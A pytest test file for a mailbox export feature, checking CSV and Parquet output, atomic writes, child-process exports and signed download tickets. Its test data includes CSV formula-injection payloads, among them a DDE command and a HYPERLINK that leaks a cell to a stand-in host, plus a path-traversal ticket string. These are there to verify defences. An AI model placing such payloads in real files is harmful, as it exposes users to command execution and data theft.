"""Exports: every row once, as typed as here, in files that are whole or not there."""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import replace
from datetime import date, timedelta
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest
from sqlalchemy import select

from core import browse, exporting
from core.browse import Filters, Question
from core.columns import MESSAGES, TEXT
from core.errors import ExportsBusy, LinkExpired
from core.exporting import Ask, Format, State, kept
from core.exporting.asked import as_plain, from_plain
from core.model import Fetched
from core.runtime import Runtime, open_runtime
from core.settings import Settings
from core.store.engine import reading, writing
from core.store.schema import audit, message, placement
from tests.store.building import connected, listed, made, put, some
from tests.store.mailbox_made import fill

COUNT = 5_000
FORMULAS = [
    "=cmd|' /C calc'!A0", "+1", "-1", "@SUM(A1)", "\uff1d1", '"=1', "'=1", " =1",
    '=HYPERLINK("http://x.example/?"&A1)', "\uff0b1", "\uff0d1", "\uff20A1",
]  # fmt: skip
ODD = ['say "hi"', "a,b;c", "emoji 😀", "tab", "NULL", "NA", "1e5", "00012", ""]


@pytest.fixture(scope="module")
def mailbox(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Runtime, int]]:
    """Give an installation with a mailbox of some thousand messages."""
    opened = open_runtime(Settings(data=tmp_path_factory.mktemp("mailbox") / "data"))
    yield opened, fill(opened, COUNT)
    opened.engine.dispose()


def write(runtime: Runtime, kind: Format, question: Question, folder: Path) -> Path:
    path = folder / f"out.{kind}"
    exporting.make(runtime, Ask(kind, question), path, lambda _done, _total: None)
    return path


@pytest.mark.parametrize(
    ("search", "filters"),
    [
        ("", Filters()),
        ("reuniao", Filters()),
        ("extraordinario", Filters()),
        ("ana", Filters(unread=True)),
        ("", Filters(flagged=True, direction="received")),
        ("larger:100k", Filters(kinds=("list",))),
        ("nothing-of-the-kind", Filters()),
    ],
)
def test_rows_are_those_of_the_pages(
    mailbox: tuple[Runtime, int], search: str, filters: Filters
) -> None:
    runtime, one = mailbox
    question = Question((one,), search=search, filters=filters)
    frames = list(exporting.rows(runtime, question))
    ids = [int(i) for frame in frames for i in frame["message_id"]]
    paged: list[int] = []
    before = ""
    while True:
        page = browse.page(runtime, question, before=before, size=1_000)
        paged += [int(i) for i in page.rows["message_id"]]
        before = page.older
        if not before:
            break
    assert ids == paged
    assert all(len(frame) <= 2_000 for frame in frames)
    for frame in frames:
        assert {n: frame[n].dtype for n in frame} == dict(pd.Series(MESSAGES))


def test_what_changes_meanwhile(mailbox: tuple[Runtime, int]) -> None:
    """Nothing comes twice; what has gone before its chunk is not there."""
    runtime, one = mailbox
    walking = exporting.rows(runtime, Question((one,)))
    first = next(walking)
    ids = listed(runtime, one, "Inbox", "Sent", "Archive")
    new = [replace_time(f, runtime) for f in some(3, first=900_001)]
    put(runtime, one, ids["Inbox"], new)  # while it is read: nobody is held up
    rest = [int(i) for frame in walking for i in frame["message_id"]]
    found = [*(int(i) for i in first["message_id"]), *rest]
    assert len(found) == len(set(found)) == COUNT
    with writing(runtime.engine) as conn:
        gone = message.c.subject.like("Reunião 90000%")
        mine = placement.c.message_id.in_(select(message.c.id).where(gone))
        conn.execute(placement.delete().where(mine))
        conn.execute(message.delete().where(gone))


def replace_time(fetched: Fetched, runtime: Runtime) -> Fetched:
    at = int(runtime.clock().timestamp() * 1000)
    return fetched._replace(
        message=fetched.message._replace(received_ms=at, written_ms=at)
    )


def test_both_formats_give_back_what_was_there(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    question = Question((one,), search="reuniao")
    true = pd.concat(exporting.rows(runtime, question), ignore_index=True)
    parquet = write(runtime, Format.PARQUET, question, tmp_path)
    pd.testing.assert_frame_equal(pd.read_parquet(parquet), true)

    sheet = write(runtime, Format.CSV, question, tmp_path)
    about = json.loads(exporting.beside(sheet).read_text("utf-8"))
    assert about["url"] == sheet.name
    described = {c["name"]: c["datatype"] for c in about["tableSchema"]["columns"]}
    assert list(described) == list(MESSAGES)
    dates = [name for name, kind in described.items() if kind == "dateTime"]
    read = pd.read_csv(
        sheet,
        dtype={n: d for n, d in MESSAGES.items() if n not in dates},
        keep_default_na=False,
        parse_dates=dates,
    )
    for name in dates:
        read[name] = read[name].astype(MESSAGES[name])
    pd.testing.assert_frame_equal(read, true)


def test_what_made_a_file_is_in_it(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    filters = Filters(since=date(2020, 1, 2), unread=True, kinds=("list", "person"))
    question = Question((one,), None, "-ana", filters, "America/Sao_Paulo")
    parquet = write(runtime, Format.PARQUET, question, tmp_path)
    kept_in = pq.read_schema(parquet).metadata
    assert kept_in[b"malote.made_by"].startswith(b"malote")
    assert from_plain(json.loads(kept_in[b"malote.question"])) == question
    sheet = write(runtime, Format.CSV, question, tmp_path)
    (note,) = json.loads(exporting.beside(sheet).read_text("utf-8"))["notes"]
    assert from_plain(note["question"]) == question
    assert note["rows"] == len(pd.read_parquet(parquet))
    assert from_plain(as_plain(Question((1, 2), 3, whole=True))) == Question(
        (1, 2), 3, whole=True
    )


def test_rows_are_in_groups_not_one_by_one(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    file = pq.ParquetFile(write(runtime, Format.PARQUET, Question((one,)), tmp_path))
    assert (file.metadata.num_rows, file.metadata.num_row_groups) == (COUNT, 1)


def odd_mailbox(runtime: Runtime) -> int:
    one = connected(runtime)
    ids = listed(runtime, one, "Inbox")
    texts = [*FORMULAS, *ODD]
    rows = [
        f._replace(message=made(subject=text, from_name=text, identity=f"i{n}"))
        for n, (f, text) in enumerate(zip(some(len(texts)), texts, strict=True))
    ]
    put(runtime, one, ids["Inbox"], rows)
    return one


def test_a_sheet_is_as_spreadsheets_want_it(runtime: Runtime, tmp_path: Path) -> None:
    one = odd_mailbox(runtime)
    path = write(runtime, Format.CSV, Question((one,)), tmp_path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.count(b"\xef\xbb\xbf") == 1
    assert raw.count(b"\n") == raw.count(b"\r\n") == 1 + len(FORMULAS) + len(ODD)
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, strict=True))
    subjects = {row["subject"] for row in rows}
    assert subjects == {"'" + text for text in FORMULAS} | set(ODD)
    for row in rows:
        for name, dtype in MESSAGES.items():
            if dtype == TEXT:
                assert browse.formula_safe(row[name]) == row[name] or row[
                    name
                ].startswith("'")
    assert path.stat().st_mode & 0o777 == 0o600


def test_nothing_is_asked_for_and_nothing_comes(
    runtime: Runtime, tmp_path: Path
) -> None:
    question = Question((connected(runtime),))
    sheet = write(runtime, Format.CSV, question, tmp_path)
    assert list(pd.read_csv(sheet).columns) == list(MESSAGES)
    empty = pd.read_parquet(write(runtime, Format.PARQUET, question, tmp_path))
    assert len(empty) == 0
    # By name: Parquet has no place for the categories of a column without values.
    named = {name: str(dtype) for name, dtype in MESSAGES.items()}
    assert {name: str(dtype) for name, dtype in empty.dtypes.items()} == named


@pytest.mark.parametrize("kind", [Format.CSV, Format.PARQUET])
@pytest.mark.parametrize("end", [KeyboardInterrupt, OSError, SystemExit])
def test_what_ends_early_leaves_nothing_half_written(
    mailbox: tuple[Runtime, int],
    tmp_path: Path,
    kind: Format,
    end: type[BaseException],
) -> None:
    runtime, one = mailbox
    older = tmp_path / f"out.{kind}"
    older.write_text("what was there before")

    def stop(done: int, _total: int | None) -> None:
        if done:
            raise end

    with pytest.raises(end):
        exporting.make(runtime, Ask(kind, Question((one,))), older, stop)
    assert [path.name for path in tmp_path.iterdir()] == [older.name]
    assert older.read_text() == "what was there before"


# ---- in a process of its own


def finished(export: exporting.Export) -> exporting.Told:
    export._process.wait(60)
    return exporting.told(export)


def test_a_child_makes_it_and_a_ticket_gives_it(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    question = Question((one,), search="extraordinario")
    running = exporting.start(runtime, Ask(Format.CSV, question), "test")
    told = finished(running)
    assert (told.state, told.done, told.total) == (State.DONE, 40, 40)
    got = exporting.download(runtime, exporting.ticket(runtime, running.folder))
    assert (
        got.path.read_bytes()
        == write(runtime, Format.CSV, question, tmp_path).read_bytes()
    )
    assert got.name.endswith(".csv")
    assert {path.stat().st_mode & 0o077 for path in running.folder.iterdir()} == {0}
    about = exporting.ticket(runtime, running.folder, "about")
    beside = exporting.download(runtime, about)
    assert json.loads(beside.path.read_text("utf-8"))["url"] == got.name
    exporting.cancel(running)
    assert not running.folder.exists()
    with pytest.raises(LinkExpired):
        exporting.download(runtime, about)
    with reading(runtime.engine) as conn:
        newest = select(audit).order_by(audit.c.id.desc()).limit(1)
        noted = conn.execute(newest).one()
    assert (noted.actor, noted.act, noted.integration_id) == ("test", "export", one)
    assert (noted.facts["format"], noted.facts["search"]) == ("csv", "extraordinario")


def test_cancelled_while_it_runs_nothing_is_left(
    mailbox: tuple[Runtime, int],
) -> None:
    runtime, one = mailbox
    running = exporting.start(runtime, Ask(Format.CSV, Question((one,))), "test")
    assert running.folder.is_dir()
    exporting.cancel(running)
    assert running._process.poll() is not None
    assert not running.folder.exists()
    with pytest.raises(LinkExpired):
        exporting.told(running)


def test_killed_it_is_told_and_swept_later(
    mailbox: tuple[Runtime, int], monkeypatch: pytest.MonkeyPatch
) -> None:
    runtime, one = mailbox
    running = exporting.start(runtime, Ask(Format.PARQUET, Question((one,))), "test")
    running._process.kill()
    told = finished(running)
    assert (told.state, told.code) == (State.FAILED, "export_broke")
    assert exporting.forget_old(runtime) == 0
    monkeypatch.setattr(kept, "KEEP_S", -1)
    assert exporting.forget_old(runtime) == 1
    assert not running.folder.exists()


def test_no_more_than_two_at_once(mailbox: tuple[Runtime, int]) -> None:
    runtime, one = mailbox
    ask = Ask(Format.CSV, Question((one,)))
    under_way = [exporting.start(runtime, ask, "test") for _ in range(2)]
    try:
        with pytest.raises(ExportsBusy):
            exporting.start(runtime, ask, "test")
    finally:
        for running in under_way:
            exporting.cancel(running)
    exporting.cancel(exporting.start(runtime, ask, "test"))


def test_a_ticket_of_somebody_else_opens_nothing(
    mailbox: tuple[Runtime, int], tmp_path: Path
) -> None:
    runtime, one = mailbox
    question = Question((one,), search="extraordinario")
    running = exporting.start(runtime, Ask(Format.PARQUET, question), "test")
    finished(running)
    good = exporting.ticket(runtime, running.folder)
    body, _, signed = good.rpartition(".")
    late = replace(runtime, clock=lambda: runtime.clock() + timedelta(minutes=16))
    bad = [
        "", "x", good[:-1], good + "0", body, f"{body}.{'0' * 64}",
        good.replace(".file.", ".about."), f"../../key.file.99999999999.{signed}",
        f"{running.folder.name}.file.99999999999.{signed}",
    ]  # fmt: skip
    for ticket in bad:
        with pytest.raises(LinkExpired):
            exporting.download(runtime, ticket)
    with pytest.raises(LinkExpired):
        exporting.download(late, good)
    assert exporting.download(runtime, good).path.is_file()
    del tmp_path
    exporting.cancel(running)


# ---- memory

MEASURED = """
import resource, sys
from pathlib import Path
from core import exporting
from core.browse import Question
from core.exporting import Ask, Format
from core.runtime import open_runtime
from core.settings import Settings
opened = open_runtime(Settings(data=Path(sys.argv[1])))
ask = Ask(Format(sys.argv[2]), Question((int(sys.argv[3]),)))
path = Path(sys.argv[1]) / ("out." + sys.argv[2])
made = exporting.make(opened, ask, path, lambda done, total: None)
print(made.messages, resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)
"""


def peak_kib(runtime: Runtime, one: int, kind: Format, count: int) -> int:
    """Give the most memory that a process needs to export a mailbox."""
    said = subprocess.run(
        [sys.executable, "-c", MEASURED, str(runtime.settings.data), kind, str(one)],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert int(said[0]) == count
    return int(said[1])


@pytest.mark.parametrize("kind", [Format.CSV, Format.PARQUET])
def test_memory_does_not_grow_with_the_rows(
    big: tuple[Runtime, int, int], kind
) -> None:
    """Ten times the rows, 50 MB of CSV more, and less than a group of rows of memory.

    A Parquet group of 50,000 rows is held, and its like while it is written.
    """
    runtime, small, large = big
    few = peak_kib(runtime, small, kind, 20_000)
    many = peak_kib(runtime, large, kind, 200_000)
    allowed = 24 if kind is Format.CSV else 96
    assert many - few < allowed << 10


@pytest.fixture(scope="module")
def big(
    tmp_path_factory: pytest.TempPathFactory,
) -> Iterator[tuple[Runtime, int, int]]:
    """Give two mailboxes, of 20,000 messages and of 200,000."""
    opened = open_runtime(Settings(data=tmp_path_factory.mktemp("big") / "data"))
    yield (
        opened,
        fill(opened, 20_000, index=False),
        fill(opened, 200_000, index=False),
    )
    opened.engine.dispose()
